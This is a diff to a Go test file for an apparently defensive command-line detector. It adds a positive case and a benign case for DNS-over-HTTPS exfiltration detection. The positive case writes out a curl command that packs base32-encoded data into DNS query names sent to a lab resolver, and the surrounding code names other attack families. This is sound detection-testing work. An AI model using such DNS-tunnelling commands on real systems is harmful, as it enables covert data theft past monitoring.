@@ -56,6 +56,8 @@ func TestEvasionExfilImpactFamilies(t *testing.T) {
 		{"modules listed", 33, "/usr/sbin/lsmod", []string{"lsmod"}, "", "", 0, ""},
 		{"a dry run", 33, "/usr/sbin/modprobe", []string{"modprobe", "-n", "-v", "xfs"}, "", "", 0, ""},
 		{"an ordinary long host name", 33, "/usr/bin/nslookup", []string{"nslookup", "api.payments.example.com"}, "", "", 0, ""},
+		{"base32 chunk through a DNS-over-HTTPS resolver", 33, "/usr/bin/curl", []string{"curl", "-sk", "-H", "accept: application/dns-json", "https://127.0.0.1:8453/dns-query?name=ONSWG4TFOQQGC3TEEBZW64DFOJXWC4TE.1.3.x.lab&type=A"}, "exfil-dns-query", "Data Carried Out In DNS Query Names", StageExfiltrationImpact, "T1048.003"},
+		{"a short name through a DNS-over-HTTPS resolver", 33, "/usr/bin/curl", []string{"curl", "-s", "https://dns.example/dns-query?name=www.example.com&type=A"}, "", "", 0, ""},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			families := []string{"defense-impair-web", "web-secrets-command", "exfil-side-channel-web", "data-destruction", "process-kill-web", "service-stop-web", "kernel-module-load-web", "privilege-search-web", "exfil-dns-query"}
